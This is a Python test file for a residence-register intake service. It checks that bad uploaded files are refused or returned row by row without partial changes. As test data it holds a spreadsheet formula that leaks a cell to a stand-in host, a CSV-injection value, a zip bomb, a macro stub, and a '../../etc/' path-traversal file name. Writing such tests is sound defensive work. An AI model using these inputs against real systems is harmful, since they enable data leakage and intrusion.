"""Bad input as whole files: a clear error or a row given back to be mended, nothing lost, nothing half-applied.

How a file is read has tests of its own in `tests/intake/files`; these here look at what becomes of it in the ledger,
in the register and in the sender's hands. Interruptions are in `test_bad_input_interrupted`, the operator's command in
`test_command`.

==========================================  ==========================================================================
empty file                                  test_nothing_is_kept_of_a_file_that_is_refused[empty…, header…, example…]
wrong or mixed encoding                     test_nothing_is_kept_of_a_file_that_is_refused[encoding unknown],
                                            test_rows_in_another_encoding_come_back_and_the_others_stay
10 GB file                                  test_ten_gigabytes_are_refused_without_reading_them
zip bomb, macros                            test_nothing_is_kept_of_a_file_that_is_refused[zip bomb, macros]
formulas                                    test_a_formula_is_a_text_in_the_register_and_guarded_in_what_goes_back
merged header cells                         test_a_header_of_merged_cells_is_understood_and_remembered
duplicate or missing columns                test_nothing_is_kept_of_a_file_that_is_refused[two columns…, missing…]
1,000,000 rows                              test_many_rows_are_received_in_bounded_memory
dates                                       test_dates_that_are_none_come_back, files/test_cells.py
end before start                            test_a_term_that_ends_before_it_begins_comes_back,
                                            test_an_end_before_every_known_arrival_is_remarked_upon
citizen numbers                             test_each_wrong_citizen_number_comes_back_with_its_own_reason
digits lost                                 test_numbers_are_distrusted_in_a_column_that_lost_digits, …_held_back…
same person twice in one file               test_a_repeated_row_…, test_one_person_at_two_dwellings_on_one_day_…
unknown dwelling, party; expired party;     test_who_may_not_declare_this_is_told_why_and_can_send_it_again;
not its own place                           an unknown party: test_command.py
child employed, death before birth          test_what_the_register_knows_of_a_birth_counts_where_the_file_is_silent,
                                            stated in the file itself: test_check.py
NUL, right-to-left, 100,000 characters,     test_characters_that_no_name_holds_come_back_and_change_nothing,
lone surrogates                             test_names_of_files_and_columns_may_be_anything
what goes back                              test_mended_rows_are_applied_and_the_same_file_again_changes_nothing
==========================================  ==========================================================================
"""

import csv
import io
import os
import subprocess
import sys
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass, replace
from datetime import date
from hashlib import blake2b
from pathlib import Path

import pytest

from denizen.intake.actions import FileReceivedBefore, Received, receive_file
from denizen.intake.errors import reason
from denizen.intake.files.errors import FileRefused, FileTooLarge
from denizen.intake.files.rejects import write_rejects
from denizen.intake.files.templates import template
from denizen.intake.queries import ends_nothing
from denizen.kernel.crypto import Vault
from denizen.ledger.actions import Sender
from denizen.ledger.queries import RowOutcome, row_outcomes
from denizen.places.actions import draw_plates
from denizen.register.documents import check_digit

from .declaring import Dwelling, Town
from .files.conftest import MakeWorkbook, workbook

__all__ = ["workbook"]

HEADER = ("姓名", "性别", "出生日期", "房屋编码", "入住日期")
type Code = tuple[int, str, str | None]


@dataclass
class Clerk:
    """Sends files for a party and sees what became of the rows."""

    town: Town
    vault: Vault
    sender: Sender

    def send(self, content: bytes | Path, kind: str = "residence_start", name: str = "f.csv") -> Received:
        """Have a file received and applied."""
        received = receive_file(
            self.town.worker,
            actor=self.sender,
            source=content,
            file_name=name,
            kind=kind,
            sealer=self.vault,
            now=self.town.tick(),
        )
        self.town.apply()
        return received

    def became(self, content: bytes | Path, kind: str = "residence_start") -> list[Code]:
        """Row, state and code of each row of a file; two cells of one row with the same fault count once."""
        outcomes = self.outcomes(self.send(content, kind))
        return list(dict.fromkeys((o.row_number, o.state, o.code) for o in outcomes))

    def outcomes(self, received: Received) -> list[RowOutcome]:
        return list(row_outcomes(self.town.worker, received.batch_id))

    def rejects(self, content: bytes, received: Received, kind: str, language: str) -> str:
        """The rejects file of a CSV file."""
        reasons: dict[int, list[tuple[str, str, object]]] = {}
        for one in self.outcomes(received):
            if one.code and one.state in ("rejected", "refused"):
                reasons.setdefault(one.row_number, []).append((one.code, one.field, reason(one.code)))
        out = io.BytesIO()
        write_rejects(out, content, kind, reasons, language, mapping=received.mapping)  # type: ignore[arg-type]
        return out.getvalue().decode("utf-8-sig")

    def by(self, kind: str, *arguments: object) -> "Clerk":
        """The same clerk at work for a new party."""
        return replace(self, sender=self.town.party(kind, *arguments))  # type: ignore[arg-type]


@pytest.fixture
def clerk(town: Town, tmp_path: Path) -> Clerk:
    return Clerk(town, Vault(tmp_path / "keys"), town.party("registrar"))


@pytest.fixture
def home(town: Town) -> Dwelling:
    return town.dwelling()


def table(*rows: Sequence[object], header: Sequence[str] = HEADER) -> bytes:
    """Rows as a CSV file."""
    out = io.StringIO()
    csv.writer(out).writerows([header, *rows])
    return out.getvalue().encode(errors="surrogatepass")


def number(born: str = "19900307", sequence: str = "123", division: str = "110101") -> str:
    """A citizen number with the right check digit."""
    return (first := f"{division}{born}{sequence}") + check_digit(first)


def everything_kept(town: Town) -> list[int]:
    """How many rows of each kind there are."""
    tables = (
        "ledger.batch ledger.upload ledger.reject ledger.declaration ledger.described ledger.waiting ledger.outcome "
        "register.person linkage.link intake.column_mapping journal.outbox"
    ).split()
    return [town.count(f"SELECT count(*) FROM {name}") for name in tables]


def zipped(**entries: bytes) -> bytes:
    """A workbook's archive with nothing right in it but the names."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {"xl/workbook.xml": b"", **entries}.items():
            archive.writestr(name, content)
    return out.getvalue()


def example_alone() -> bytes:
    return template("residence_start", "en")


@pytest.mark.parametrize(
    ("content", "code"),
    [
        pytest.param(lambda: b"", "file.empty", id="empty"),
        pytest.param(lambda: b"\xef\xbb\xbf\r\n \r\n,,\r\n", "file.empty", id="empty cells"),
        pytest.param(table, "file.empty", id="header alone"),
        pytest.param(example_alone, "file.empty", id="example alone"),
        pytest.param(
            lambda: table(("a", *"bcde")) + b"\x81\x20\xff\xfe\x90\x8f,,,,\n" * 99,
            "encoding.unknown",
            id="encoding unknown",
        ),
        pytest.param(
            lambda: zipped(**{"xl/worksheets/sheet1.xml": b"0" * 50_000_000}),
            "workbook.too_much",
            id="zip bomb",
        ),
        pytest.param(lambda: zipped(**{"xl/vbaProject.bin": b"x"}), "workbook.macros", id="macros"),
        pytest.param(
            lambda: table(("张伟", "张伟", "p", "2024"), header=("姓名", "名字", "房屋编码", "入住日期")),
            "columns.repeated",
            id="two columns for the name",
        ),
        pytest.param(
            lambda: table(("张伟", "男", "1990"), header=("姓名", "性别", "出生日期")),
            "columns.missing",
            id="missing columns",
        ),
    ],
)
def test_nothing_is_kept_of_a_file_that_is_refused(
    clerk: Clerk, content: Callable[[], bytes], code: str
) -> None:
    before = everything_kept(clerk.town)
    with pytest.raises(FileRefused) as refused:
        clerk.send(content())
    assert refused.value.code == code
    assert everything_kept(clerk.town) == before


def test_ten_gigabytes_are_refused_without_reading_them(clerk: Clerk, tmp_path: Path) -> None:
    path = tmp_path / "large.csv"
    with path.open("wb") as file:
        file.truncate(10 << 30)
    before = _bytes_read()
    with pytest.raises(FileTooLarge):
        clerk.send(path)
    assert _bytes_read() - before < 1_000_000


def _bytes_read() -> int:
    """How many bytes this process has asked the system for."""
    return int(Path("/proc/self/io").read_text().split("rchar: ")[1].split()[0])


def test_rows_in_another_encoding_come_back_and_the_others_stay(clerk: Clerk, home: Dwelling) -> None:
    lines = table(*((f"甲{n}", "男", "1990-01-02", home.plate, "2024-03-05") for n in range(8))).splitlines(
        True
    )
    lines[4] = lines[4].decode().encode("gb18030")
    assert clerk.became(b"".join(lines)) == [
        (n, "rejected", "encoding.mixed") if n == 5 else (n, "applied", None) for n in range(2, 10)
    ]


def test_a_formula_is_a_text_in_the_register_and_guarded_in_what_goes_back(
    clerk: Clerk, home: Dwelling
) -> None:
    evil = '=HYPERLINK("http://x/"&A1)'
    content = table(
        (evil, "男", "1990-01-02", home.plate, "2024-03-05"),
        ("@SUM(A1)", "男", "1990-02-30", home.plate, "2024-03-05"),
    )
    received = clerk.send(content)
    assert clerk.town.count("SELECT count(*) FROM register.person_name WHERE name = %s", evil) == 1
    assert "'@SUM(A1)" in clerk.rejects(content, received, "residence_start", "en")


def test_a_header_of_merged_cells_is_understood_and_remembered(
    clerk: Clerk, home: Dwelling, workbook: MakeWorkbook
) -> None:
    rows = [
        ["2024年3月入住登记表"],
        ["个人信息", None, None, "住房", None],
        ["姓名", "性别", "出生日期", "门牌码", "入住日期"],
        ["张伟", "男", date(1990, 1, 2), home.plate, date(2024, 3, 5)],
    ]
    assert clerk.became(workbook(rows)) == [(4, "applied", None)]
    remembered = clerk.town.owner.execute(
        "SELECT header, field FROM intake.column_mapping WHERE party_id = %s", [clerk.sender.party_id]
    )
    assert ("门牌码", "plate") in remembered.fetchall()


def test_what_a_sender_calls_a_column_is_theirs_alone(clerk: Clerk, home: Dwelling) -> None:
    header = ("姓名", "性别", "出生日期", "小屋", "入住日期")
    content = table(("张伟", "男", "1990-01-02", home.plate, "2024-03-05"), header=header)
    with pytest.raises(FileRefused):
        clerk.send(content)
    clerk.town.owner.execute(
        "INSERT INTO intake.column_mapping (party_id, kind, header, field)"
        " VALUES (%s, 'residence_start', '小屋', 'plate')",
        [clerk.sender.party_id],
    )
    assert clerk.became(content) == [(2, "applied", None)]
    with pytest.raises(FileRefused):
        clerk.by("registrar").send(content)


def test_dates_that_are_none_come_back(clerk: Clerk, home: Dwelling) -> None:
    dates = {
        "2024-02-30": "date.no_such_day",
        "24-3-5": "date.two_digit_year",
        "05/03/2024": "date.ambiguous",
        "45000": "date.spreadsheet_serial",
        "gestern": "date.unreadable",
        "2024年3月5日": None,
    }
    content = table(*((f"乙{n}", "男", "1990-01-02", home.plate, text) for n, text in enumerate(dates)))
    assert [code for _, _, code in clerk.became(content)] == list(dates.values())


def test_a_term_that_ends_before_it_begins_comes_back(clerk: Clerk, home: Dwelling) -> None:
    header = (*HEADER, "租期至")
    content = table(("张伟", "男", "1990-01-02", home.plate, "2024-03-05", "2024-03-04"), header=header)
    assert clerk.became(content, "tenancy_start") == [(2, "rejected", "period.end_before_start")]


def test_an_end_before_every_known_arrival_is_remarked_upon_until_an_earlier_one_is_known(
    clerk: Clerk, home: Dwelling
) -> None:
    other = clerk.town.dwelling()
    card = number(sequence="451")

    def content(day: str, place: Dwelling, what: str) -> bytes:
        return table(("丁一", card, place.plate, day), header=("姓名", "身份证号", "房屋编码", what))

    def residences() -> list[tuple[date, date | None]]:
        (person,) = clerk.town.owner.execute(
            "SELECT DISTINCT person_id FROM register.person_name WHERE name = '丁一'"
        ).fetchone()  # type: ignore[misc]
        facts = clerk.town.facts("residence", person)
        return sorted((one["valid_during"].lower, one["valid_during"].upper) for one in facts)

    clerk.send(content("2024-03-05", home, "入住日期"))
    early = clerk.send(content("2024-03-04", home, "搬离日期"), "residence_end")
    elsewhere = clerk.send(content("2024-06-01", other, "搬离日期"), "residence_end")
    for received in (early, elsewhere):
        assert [o.state for o in clerk.outcomes(received)] == ["applied"]
        assert ends_nothing(clerk.town.worker, received.batch_id) == [2]
    assert residences() == [(date(2024, 3, 5), None)]
    # The same end takes effect as soon as it has something to end: the order in which files come must not matter.
    clerk.send(content("2023-01-01", home, "入住日期"))
    assert ends_nothing(clerk.town.worker, early.batch_id) == []
    assert residences() == [(date(2023, 1, 1), date(2024, 3, 4)), (date(2024, 3, 5), None)]


def test_an_end_on_the_first_day_or_later_is_not_remarked_upon(clerk: Clerk, home: Dwelling) -> None:
    card = number(sequence="452")
    for day, kind, what in (
        ("2024-03-05", "residence_start", "入住日期"),
        ("2024-03-05", "residence_end", "搬离日期"),
        ("2024-08-01", "residence_end", "搬离日期"),
        ("2024", "residence_end", "搬离日期"),
    ):
        received = clerk.send(
            table(("丁二", card, home.plate, day), header=("姓名", "身份证号", "房屋编码", what)), kind
        )
        assert ends_nothing(clerk.town.worker, received.batch_id) == []


def test_an_end_of_work_nobody_knows_of_is_remarked_upon(clerk: Clerk) -> None:
    _, known = clerk.town.organisation()
    employer = clerk.by("employer", known)
    header = ("姓名", "身份证号", "日期")
    card = number(sequence="453")
    (start, end) = ((*header[:2], word) for word in ("入职日期", "离职日期"))
    employer.send(table(("丁三", card, "2024-03-05"), header=start), "employment_start")
    received = employer.send(table(("丁三", card, "2024-02-01"), header=end), "employment_end")
    assert ends_nothing(clerk.town.worker, received.batch_id) == [2]
    received = employer.send(table(("丁三", card, "2024-05-01"), header=end), "employment_end")
    assert ends_nothing(clerk.town.worker, received.batch_id) == []


def test_each_wrong_citizen_number_comes_back_with_its_own_reason(clerk: Clerk, home: Dwelling) -> None:
    right = number()
    with_x = next(full for n in range(1, 99) if (full := number("19910202", f"{n:03}")).endswith("X"))
    wrong_digit = right[:-1] + ("0" if right[-1] != "0" else "1")
    cards = {
        wrong_digit.replace("000", "001"): "document.citizen_id.checksum",
        number("19900230"): "document.citizen_id.birth_date",
        number("20990101"): "document.citizen_id.birth_date",
        number(division="119901"): "document.citizen_id.division",
        right[:17]: "document.citizen_id.length",
        "1.10101E+17": "number.digits_lost",
        right: None,
        with_x.lower(): None,
        "110101199003071235"[:15] + "000": "number.digits_lost",
    }
    rows = ((f"丙{n}", card, home.plate, "2024-03-05") for n, card in enumerate(cards))
    became = clerk.became(table(*rows, header=("姓名", "身份证号", "房屋编码", "入住日期")))
    assert [code for _, _, code in became] == list(cards.values())
    assert {len(str(row)) for row in became}  # one outcome a row
    assert len(became) == len(cards)


def rounded(n: int = 0) -> str:
    """A number that ends in 000 and fits its check digit."""
    found = [
        full
        for year in range(1950, 2000)
        for month in range(1, 13)
        for hundreds in range(1, 10)
        if (full := number(f"{year}{month:02}07", f"{hundreds}00")).endswith("000")
    ]
    return found[n]


CARDS = ("姓名", "身份证号", "房屋编码", "入住日期")


@pytest.mark.parametrize("lost_comes", ["first", "last"])
def test_numbers_are_distrusted_in_a_column_that_lost_digits(
    clerk: Clerk, home: Dwelling, lost_comes: str
) -> None:
    by_chance = [(f"戊{n}", rounded(n), home.plate, "2024-03-05") for n in range(3)]
    lost = ("己", number(sequence="777")[:15] + "000", home.plate, "2024-03-05")
    safe = ("庚", number(sequence="778"), home.plate, "2024-03-05")
    rows = [lost, *by_chance, safe] if lost_comes == "first" else [*by_chance, safe, lost]
    became = {row: code for row, _, code in clerk.became(table(*rows, header=CARDS))}
    assert [became[n] for n in sorted(became)] == [
        None if row is safe else "number.digits_lost" for row in rows
    ]


def test_numbers_that_end_in_000_are_believed_where_no_other_was_rounded(
    clerk: Clerk, home: Dwelling
) -> None:
    rows = [(f"辛{n}", rounded(n + 5), home.plate, "2024-03-05") for n in range(3)]
    assert clerk.became(table(*rows, header=CARDS)) == [(n, "applied", None) for n in (2, 3, 4)]


def test_one_spoilt_column_does_not_spoil_another(clerk: Clerk, home: Dwelling) -> None:
    header = (*CARDS, "户主证件号码")
    rows = [
        ("壬一", rounded(9), home.plate, "2024-03-05", ""),
        ("壬二", number(sequence="811"), home.plate, "2024-03-05", number(sequence="812")[:15] + "000"),
        ("壬三", number(sequence="813"), home.plate, "2024-03-05", rounded(10)),
    ]
    assert clerk.became(table(*rows, header=header)) == [
        (2, "applied", None),
        (3, "rejected", "number.digits_lost"),
        (4, "rejected", "number.digits_lost"),
    ]


@pytest.mark.parametrize("first", ["11010119620304", "81000019620304", "93100019620304"])
def test_a_relative_is_found_by_the_number_of_whatever_card(clerk: Clerk, home: Dwelling, first: str) -> None:
    head = (seventeen := f"{first}512") + check_digit(seventeen)
    name = f"午{first}"
    header = (*CARDS, "户主姓名", "户主证件号码")
    who = (f"{name}子", number("19950607", "513"), home.plate, "2024-03-05", name, head)
    clerk.send(table((name, head, home.plate, "2024-03-05"), header=CARDS))
    received = clerk.send(table(who, header=header))
    parts = clerk.town.owner.execute(
        "SELECT l.part FROM linkage.link AS l JOIN ledger.declaration AS d ON d.id = l.declaration_id"
        " WHERE d.batch_id = %s ORDER BY 1",
        [received.batch_id],
    ).fetchall()
    assert parts == [("head",), ("subject",)]


def test_a_repeated_row_is_taken_once_however_it_is_written(clerk: Clerk, home: Dwelling) -> None:
    content = table(
        ("癸一", "男", "1990-01-02", home.plate, "2024-03-05"),
        (" 癸一 ", "M", "1990年1月2日", home.plate.lower().replace("-", ""), "2024/3/5"),
        ("癸一", "男", "1990-01-02", home.plate, "2024-03-06"),
    )
    assert clerk.became(content) == [
        (2, "applied", None),
        (3, "rejected", "row.repeated"),
        (4, "applied", None),
    ]
    assert clerk.town.count("SELECT count(*) FROM register.person_name WHERE name = '癸一'") == 1


def test_one_person_at_two_dwellings_on_one_day_is_kept_with_both_declarations(
    clerk: Clerk, home: Dwelling
) -> None:
    other = clerk.town.dwelling()
    content = table(*(("癸二", "男", "1990-01-02", at.plate, "2024-03-05") for at in (home, other)))
    received = clerk.send(content)
    assert [o.state for o in clerk.outcomes(received)] == ["applied", "applied"]
    people = clerk.town.owner.execute(
        "SELECT DISTINCT l.person_id FROM linkage.link AS l JOIN ledger.declaration AS d ON d.id = l.declaration_id"
        " WHERE d.batch_id = %s",
        [received.batch_id],
    ).fetchall()
    assert len(people) == 1
    # One main residence: of one sender's two words for one day the later holds.
    [residence] = clerk.town.facts("residence", people[0][0])
    assert residence["dwelling_id"] == other.id


def test_who_may_not_declare_this_is_told_why_and_can_send_it_again(clerk: Clerk, home: Dwelling) -> None:
    landlord = clerk.by("landlord")
    mine = clerk.town.dwelling(landlord.sender)

    def content(plate: str) -> bytes:
        return table(("子一", "男", "1990-01-02", plate, "2024-03-05"))

    [nowhere] = draw_plates(1)
    assert landlord.became(content("no plate"), "tenancy_start") == [(2, "rejected", "place.plate.malformed")]
    assert landlord.became(content(nowhere), "tenancy_start") == [(2, "refused", "dwelling.plate_unknown")]
    assert landlord.became(content(home.plate), "tenancy_start") == [(2, "refused", "dwelling.not_yours")]
    clerk.town.owner.execute(
        "UPDATE access.party SET valid_during = daterange(NULL, '2024-12-01') WHERE id = %s",
        [landlord.sender.party_id],
    )
    good = content(mine.plate)
    assert landlord.became(good, "tenancy_start") == [(2, "refused", "party.expired")]
    clerk.town.owner.execute(
        "UPDATE access.party SET valid_during = '(,)' WHERE id = %s", [landlord.sender.party_id]
    )
    with pytest.raises(FileReceivedBefore) as again:
        landlord.send(good, "tenancy_start")
    # What was wrong was not in the row: the rejects file is sent as it came back.
    back = landlord.rejects(good, again.value.received, "tenancy_start", "zh-hans")
    assert landlord.became(back.encode("utf-8-sig"), "tenancy_start") == [(2, "applied", None)]


@pytest.mark.parametrize(
    ("kind", "header", "day", "state"),
    [
        ("death", "死亡日期", "2008-06-30", "undecided"),
        ("death", "死亡日期", "2008-07-01", "applied"),
        ("death", "死亡日期", "2008", "applied"),
        ("employment_start", "入职日期", "2024-06-30", "undecided"),
        ("employment_start", "入职日期", "2024-07-01", "applied"),
        ("employment_start", "入职日期", "2007-07-01", "undecided"),
        ("confirmation", "确认日期", "2008-06-30", "undecided"),
    ],
)
def test_what_the_register_knows_of_a_birth_is_asked_about_where_the_file_is_silent(
    clerk: Clerk, home: Dwelling, kind: str, header: str, day: str, state: str
) -> None:
    passport = f"P{clerk.town.count('SELECT count(*) FROM ledger.declaration') + 10_000}"
    papers = ("姓名", "证件类型", "证件号码")
    letters = (
        blake2b(passport.encode(), digest_size=6)
        .hexdigest()
        .translate(str.maketrans("0123456789", "гджзклмнпр"))
    )
    who = (f"Батбаяр {letters}", "护照", passport)
    known = clerk.send(
        table((*who, "2008-07-01", home.plate, "2015-01-01"), header=(*papers, *HEADER[2:])),
        "residence_start",
    )
    assert [o.state for o in clerk.outcomes(known)] == ["applied"]
    content = table((*who, day), header=(*papers, header))
    if kind == "employment_start":
        clerk = clerk.by("employer", clerk.town.organisation()[1])
    people = clerk.town.count("SELECT count(*) FROM register.person")
    links = clerk.town.count("SELECT count(*) FROM linkage.link")
    received = clerk.send(content, kind)
    assert [o.state for o in clerk.outcomes(received)] == [state]
    # It is the sender's word, and no fault of the row: nothing comes back, and nothing is told of the birth.
    rejects = clerk.rejects(content, received, kind, "en")
    assert passport not in rejects
    assert clerk.town.count("SELECT count(*) FROM register.person") == people
    assert clerk.town.count("SELECT count(*) FROM linkage.link") == links + (state == "applied")


def test_characters_that_no_name_holds_come_back_and_change_nothing(clerk: Clerk, home: Dwelling) -> None:
    names = {
        "张\0伟": "text.control_character",
        "张\u202e伟": "text.direction_control",
        "张\u200b伟": "text.zero_width",
        "张" * 100_000: "text.too_long",
        "张\ufffd伟": "text.damaged",
        "寅\ud800二": "encoding.mixed",
        "寅一": None,
    }
    rows = [(name, "男", "1990-01-02", home.plate, "2024-03-05") for name in names]
    content = table(*rows)
    received = clerk.send(content)
    assert [o.code for o in clerk.outcomes(received)] == list(names.values())
    assert clerk.town.count("SELECT count(*) FROM register.person_name WHERE name = '寅一'") == 1
    # What goes back can be opened and read again.
    back = clerk.rejects(content, received, "residence_start", "en")
    assert len(list(csv.reader(io.StringIO(back)))) == len(names), "a header, and all but one"


def test_names_of_files_and_columns_may_be_anything(clerk: Clerk, home: Dwelling) -> None:
    header = ("姓名(\0备注)", "性别", "出生日期", "房屋编码", "入住日期", "x\ud800"[:1] + "\0")
    content = table(("卯一", "男", "1990-01-02", home.plate, "2024-03-05", "?"), header=header)
    name = "../../etc/" + os.fsdecode(b"\xff\xfe") + "\0" + "长" * 300 + ".csv"
    received = clerk.send(content, name=name)
    assert [o.state for o in clerk.outcomes(received)] == ["applied"]
    (kept,) = clerk.town.owner.execute(
        "SELECT file_name FROM ledger.batch WHERE id = %s", [received.batch_id]
    ).fetchone()  # type: ignore[misc]
    assert kept.startswith("???长")
    assert len(kept) == 200


@pytest.mark.parametrize(("language", "words"), [("zh-hans", "错误说明"), ("en", "Error code")])
def test_mended_rows_are_applied_and_the_same_file_again_changes_nothing(
    clerk: Clerk, home: Dwelling, language: str, words: str
) -> None:
    tag = {"z": "辰光", "e": "午时"}[language[0]]
    content = table(
        (f"{tag}一", "男", "1990-01-02", home.plate, "2024-03-05"),
        (f"{tag}二", "男", "1990-02-30", home.plate, "2024-03-05"),
        (f"{tag}三", "男", "1991-02-03", "KZ7M4Q2P", "2024-03-05"),
        (f"{tag}四", "", "", home.plate, "2024-03-05"),
    )
    received = clerk.send(content)
    back = clerk.rejects(content, received, "residence_start", language)
    header, *rows = list(csv.reader(io.StringIO(back)))
    assert tuple(header[:5]) == HEADER
    assert words in header
    assert [row[0] for row in rows] == [f"{tag}二", f"{tag}三", f"{tag}四"]
    assert all(row[5] and row[6] and row[5] not in row[6] for row in rows), "each has a code and a sentence"
    before = everything_kept(clerk.town)
    with pytest.raises(FileReceivedBefore) as again:
        clerk.send(content, name="another name.csv")
    assert again.value.received == received
    assert everything_kept(clerk.town) == before
    mended = (
        back.replace("1990-02-30", "1990-02-28")
        .replace("KZ7M4Q2P", home.plate)
        .replace(f"{tag}四,,", f"{tag}四,男,1992-03-04")
    )
    assert [state for _, state, _ in clerk.became(mended.encode("utf-8-sig"))] == ["applied"] * 3
    assert clerk.town.count("SELECT count(*) FROM register.person_name WHERE name LIKE %s", f"{tag}_") == 4


def test_each_sheet_of_a_workbook_is_received_once(
    clerk: Clerk, home: Dwelling, workbook: MakeWorkbook
) -> None:
    content = workbook(
        {month: [HEADER, (f"巳{month}", "男", "1990-01-02", home.plate, "2024-03-05")] for month in "一二"}
    )

    def send(sheet: str) -> Received:
        return receive_file(
            clerk.town.worker,
            actor=clerk.sender,
            source=content,
            file_name="a.xlsx",
            kind="residence_start",
            sealer=clerk.vault,
            now=clerk.town.tick(),
            sheet=sheet,
        )

    assert send("一").declarations == send("二").declarations == 1
    with pytest.raises(FileReceivedBefore):
        send("一")
    clerk.town.apply()


ROWS = int(os.environ.get("DENIZEN_TEST_ROWS", "200000"))
"""Set it to 1000000 for the whole drill: it takes some minutes."""

RECEIVE_AND_SAY_THE_PEAK = """
import resource, sys, django
django.setup()
from datetime import datetime, UTC
from pathlib import Path
from uuid import UUID
from denizen.intake.actions import receive_file
from denizen.kernel.crypto import Vault
from denizen.kernel.db import connect
from denizen.ledger.actions import Sender

url, file, keys, party, actor = sys.argv[1:]
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
with connect(url) as db:
    received = receive_file(
        db, actor=Sender(UUID(party), "registrar", UUID(actor), "file"), source=Path(file), file_name="many.csv",
        kind="residence_start", sealer=Vault(Path(keys)), now=datetime(2025, 1, 1, tzinfo=UTC),
    )
print(received.declarations, received.rejected, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)
"""


@pytest.mark.timeout(300 + ROWS // 500)
def test_many_rows_are_received_in_bounded_memory(clerk: Clerk, home: Dwelling, tmp_path: Path) -> None:
    path = tmp_path / "many.csv"
    with path.open("w", encoding="utf-8") as out:
        out.write("姓名,出生日期,房屋编码,入住日期\n")
        for n in range(ROWS):
            out.write(f"名{n:x},19{50 + n % 50}-0{1 + n % 9}-1{n % 9},{home.plate},2024-03-05\n")
    finished = subprocess.run(
        [
            sys.executable, "-c", RECEIVE_AND_SAY_THE_PEAK, clerk.town.database.url("denizen_worker"), path,
            tmp_path / "keys", str(clerk.sender.party_id), str(clerk.sender.entered_by),
        ],
        capture_output=True, text=True, check=True, timeout=300 + ROWS // 500,
    )  # fmt: skip
    declarations, rejected, kilobytes = map(int, finished.stdout.split())
    assert (declarations, rejected) == (ROWS, 0)
    # A digest a row and a few copies of the file; what is made of the rows must not stay.
    assert kilobytes * 1000 < 30_000_000 + 3 * path.stat().st_size + 60 * ROWS, f"{kilobytes:,} kB"
